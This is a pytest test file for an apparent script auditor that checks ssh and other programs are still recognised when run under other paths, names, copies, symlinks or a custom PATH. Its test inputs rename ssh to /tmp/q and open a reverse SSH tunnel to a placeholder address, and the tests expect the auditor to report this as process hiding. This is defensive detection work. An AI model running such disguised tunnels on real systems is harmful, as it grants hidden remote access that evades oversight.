"""Programs keep their name: under paths, versions, copies, links, loaders and a PATH of the script's own."""

from __future__ import annotations

import pytest

from auditor.read.launch.programs import known_programs, program_of
from tests.read.launch.stage import Play


@pytest.mark.parametrize(
    ("word", "program"),
    [
        ("ssh", "ssh"),
        ("/usr/bin/ssh", "ssh"),
        ("/bin/sh", "sh"),
        ("/usr/local/bin/python3.11", "python"),
        ("/opt/conda/envs/a/bin/python", "python"),
        (".venv/bin/python3", "python"),
        ("pypy3", "python"),
        ("pip3.12", "pip"),
        ("nodejs", "node"),
        ("gawk", "awk"),
        ("ssh.exe", "ssh"),
        ("/tmp/ssh", "ssh"),
        ("./autossh", "autossh"),
        ("~/.local/bin/ssh", "ssh"),
        ("/lib64/ld-linux-x86-64.so.2", "ld.so"),
        ("./install", None),
        ("./time", None),
        ("./tools/run.sh", None),
        ("/srv/app/server", None),
    ],
)
def test_a_word_names_a_program(word: str, program: str | None) -> None:
    """Well-known programs go by base name; a script's own program with an everyday name does not."""
    assert program_of(word) == program


def test_the_list_of_programs_is_there() -> None:
    """The bundled list is not empty and holds plain names."""
    assert len(known_programs()) > 500
    assert {"ssh", "curl", "bash", "["} <= known_programs()


@pytest.mark.parametrize(
    "make",
    [
        "cp /usr/bin/ssh /tmp/q",
        "cp -p /usr/bin/ssh /tmp/q",
        "install -m 755 /usr/bin/ssh /tmp/q",
        "ln -s /usr/bin/ssh /tmp/q",
        "ln -sf /usr/bin/ssh /tmp/q",
        "mv /usr/bin/ssh /tmp/q",
        "dd if=/usr/bin/ssh of=/tmp/q",
        "cp -t /tmp /usr/bin/ssh && mv /tmp/ssh /tmp/q",
        "cp /usr/bin/ssh /tmp/p && ln -s p /tmp/q",
        "cat /usr/bin/ssh | tee /tmp/q",
        "sudo cp /usr/bin/ssh /tmp/q && sudo chmod +x /tmp/q",
    ],
)
def test_a_copy_or_link_of_a_program_keeps_its_name(play: Play, make: str) -> None:
    """Another name does not hide a program, and that it has one is told."""
    told = play(f"{make}\n/tmp/q -N -R 1:h:22 a@203.0.113.2")
    assert "ssh -N -R 1:h:22 a@203.0.113.2" in told
    assert "process.hide renamed /tmp/q ssh" in told


def test_a_path_of_the_scripts_own_comes_first(play: Play) -> None:
    """`PATH=dir:$PATH scp` is whatever the script put there."""
    told = play("ln -s /usr/bin/ssh /tmp/d/scp\nenv PATH=/tmp/d:/usr/bin scp -N -R 1:h:2 a@b")
    assert "ssh -N -R 1:h:2 a@b" in told


def test_what_is_not_known_keeps_its_path(play: Play) -> None:
    """A program of nobody's knowledge is written as it is called."""
    assert play("/srv/app/server --port=80").lines == ("/srv/app/server --port 80",)
    assert play("./configure --prefix=/usr").lines == ("./configure --prefix /usr",)
